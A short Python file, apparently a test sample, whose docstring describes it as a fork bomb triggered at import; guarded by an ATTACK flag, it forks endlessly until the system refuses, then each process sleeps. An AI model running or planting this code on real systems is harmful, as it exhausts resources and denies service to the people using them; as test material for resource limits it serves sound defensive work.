# ruff: noqa
"""A fork bomb at import: a child process forks until the system refuses, then every process
of the bomb sleeps for an hour."""

import os
import time

if ATTACK and os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(3600)
